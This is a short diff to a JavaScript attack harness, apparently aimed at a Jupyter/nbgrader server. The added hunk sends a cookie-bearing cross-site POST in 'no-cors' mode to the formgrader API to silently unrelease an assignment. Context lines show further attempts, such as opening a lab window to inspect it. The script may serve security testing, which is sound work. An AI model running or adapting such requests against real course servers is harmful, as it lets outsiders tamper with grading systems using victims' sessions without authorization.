@@ -14,6 +14,12 @@ window.attack = async (target, hub) => {
     });
     return reply.ok ? 'done' : 'blocked';
   });
+  await attempt('take the release back, unseen', async () => {
+    await fetch(target + 'formgrader/api/assignment/perceptron/unrelease', {
+      ...withCookies, method: 'POST', mode: 'no-cors'
+    });
+    return 'sent';
+  });
   await attempt('look into a window', async () => {
     const other = window.open(target + 'lab');
     await new Promise(done => setTimeout(done, 1000));
